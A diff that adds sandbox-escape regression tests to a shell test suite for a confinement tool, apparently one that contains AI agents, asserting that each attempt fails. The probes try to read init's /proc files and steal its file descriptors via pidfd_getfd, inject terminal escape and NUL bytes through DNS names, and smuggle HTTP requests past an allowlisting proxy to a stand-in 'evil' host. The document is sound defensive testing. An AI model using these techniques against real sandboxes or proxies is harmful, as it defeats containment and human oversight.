@@ -120,4 +120,132 @@ else
     skip "home: the workspace may not be the home directory" "uid $(id -u) has no home directory"
 fi
 
+# --- probes that the boundary holds against (kept so it stays that way), in one bottle:
+#  bottle-init (PID 1, uid 0 with capabilities in the bottle's namespaces) is out of reach of
+#  the command (uid 0, none): its /proc entries and, via pidfd_getfd, its fds (channel,
+#  spec, hand-off socket); a host abstract AF_UNIX socket (scoped by network namespace);
+#  terminal control bytes in a refused DNS name do not reach the user's terminal through the
+#  supervisor's notice; a name with a NUL or a dot inside a label is refused and never
+#  forwarded upstream.
+"$PY" - <<'PY' &
+import socket, time
+s = socket.socket(socket.AF_UNIX); s.bind(b"\0bb-redteam-host"); s.listen(1)
+time.sleep(30)
+PY
+_pids+=("$!")
+cat >"$WS/probe.py" <<'PY'
+import ctypes, errno, os, re, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def res(label, fn):
+    try:
+        fn(); r = "OK"
+    except OSError as e:
+        r = errno.errorcode.get(e.errno, str(e.errno))
+    print("%s=%s" % (label, r))
+def sc(*a):
+    v = libc.syscall(*a)
+    if v < 0:
+        raise OSError(ctypes.get_errno(), "")
+    return v
+res("init_environ", lambda: open("/proc/1/environ", "rb").read())
+res("init_root", lambda: os.listdir("/proc/1/root/"))
+res("init_mem", lambda: open("/proc/1/mem", "rb"))
+res("init_ns", lambda: os.open("/proc/1/ns/net", os.O_RDONLY))
+res("init_fd_link", lambda: os.readlink("/proc/1/fd/3"))
+pidfd = sc(434, 1, 0)  # pidfd_open
+for fd in (3, 4, 5):
+    res("init_getfd_%d" % fd, lambda: sc(438, pidfd, fd, 0))
+res("host_abstract", lambda: socket.socket(socket.AF_UNIX).connect(b"\0bb-redteam-host"))
+A = re.match(r"http://([\d.]+):", os.environ["HTTP_PROXY"]).group(1)
+def q(labels, qid):
+    body = b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", 1, 1)
+    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + body
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
+for i, labels in enumerate([[b"\x1b]0;TITLE\x07\x1b[2Jleakesc", b"example", b"org"],
+                            [b"allprivate", b"test\x00", b"leaknul", b"example"],
+                            [b"leakdot.example.allprivate", b"test"]]):
+    u.sendto(q(labels, 100 + i), (A, 53))
+    try:
+        r = u.recv(512); print("dns%d=rcode%d" % (i, r[3] & 15))
+    except OSError:
+        print("dns%d=none" % i)
+PY
+: >"$T/dns.log"
+out=$(run --allow allprivate.test -- "$PY" probe.py 2>"$T/probe.err")
+for p in init_environ init_root init_mem init_ns init_fd_link; do
+    is "init: /proc/1 of bottle-init: $p refused" "$(sed -n "s/^$p=//p" <<<"$out")" "EACCES"
+done
+for fd in 3 4 5; do
+    is "init: pidfd_getfd of bottle-init's fd $fd refused" \
+        "$(sed -n "s/^init_getfd_$fd=//p" <<<"$out")" "EPERM"
+done
+is "netns: a host abstract AF_UNIX socket is unreachable" \
+    "$(sed -n 's/^host_abstract=//p' <<<"$out")" "ECONNREFUSED"
+is "dns: the hostile names were refused (NXDOMAIN)" "$(grep -c '^dns[0-9]=rcode3$' <<<"$out")" "3"
+is "dns: none of them reached the upstream" "$(grep -c leak "$T/dns.log")" "0"
+like "notice: the refused name with control bytes is shown ..." "$(cat "$T/probe.err")" \
+    "bot-bottle: blocked .*leakesc"
+is "notice: ... without a single control byte (ESC, BEL) on the terminal" \
+    "$(tr -d '\n' <"$T/probe.err" | tr -dc '\000-\037\177' | wc -c)" "0"
+
+# --- the proxy: a second request on a kept-alive connection, and one after an Upgrade, name
+# a host that is not allowlisted; only the first ever reaches the (loopback) upstream.
+UP=$(free_port)
+"$PY" - "$UP" "$T/up.log" <<'PY' &
+import socket, sys, threading
+log = open(sys.argv[2], "ab", buffering=0)
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16)
+def serve(c):
+    c.settimeout(5)
+    try:
+        while True:
+            d = c.recv(65536)
+            if not d:
+                break
+            log.write(d)
+            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+    except OSError:
+        pass
+    c.close()
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+PY
+_pids+=("$!")
+wait_port "$UP" || { echo "Bail out! the fake upstream did not start"; exit 1; }
+cat >"$WS/smuggle.py" <<'PY'
+import os, re, socket, sys
+A = re.match(r"http://([\d.]+):", os.environ["HTTP_PROXY"]).group(1)
+H, E = "allprivate.test:" + sys.argv[1], "allprivate.evil:" + sys.argv[1]
+def raw(data):
+    c = socket.create_connection((A, 3128)); c.settimeout(3); c.sendall(data.encode()); out = b""
+    try:
+        while True:
+            d = c.recv(65536)
+            if not d:
+                break
+            out += d
+    except OSError:
+        pass
+    return [l.decode() for l in out.split(b"\r\n") if l.startswith(b"HTTP/1.1 ")]
+print("pipeline", raw("GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\n"
+                      "GET http://%s/leak1 HTTP/1.1\r\nHost: %s\r\n\r\n" % (H, H, E, E)))
+print("origin", raw("GET http://%s/first HTTP/1.1\r\nHost: %s\r\n\r\n"
+                    "GET /leak2 HTTP/1.1\r\nHost: %s\r\n\r\n" % (H, H, E)))
+print("upgrade", raw("GET http://%s/up HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\n"
+                     "Upgrade: websocket\r\n\r\nGET http://%s/leak3 HTTP/1.1\r\nHost: %s\r\n\r\n"
+                     % (H, H, E, E)))
+print("chunkext", raw("POST http://%s/c HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n"
+                      "5;x=\"\r\n0\r\n\r\nGET http://%s/leak4 HTTP/1.1\r\n\r\n\"\r\nhello\r\n0\r\n\r\n"
+                      % (H, H, E)))
+PY
+out=$(run --allow "allprivate.test:$UP" --allow-cidr 127.0.0.1/32 -- "$PY" smuggle.py "$UP" 2>&1)
+like "proxy: the allowlisted first request was served (the probes reached the proxy)" "$out" \
+    "pipeline \['HTTP/1.1 200 OK'"
+like "proxy: ... and the upstream got it" "$(cat "$T/up.log" 2>/dev/null)" "GET /first"
+is "proxy: no pipelined, post-Upgrade or chunk-extension request reached the upstream" \
+    "$(grep -ac 'leak\|allprivate.evil' "$T/up.log")" "0"
+
 done_testing
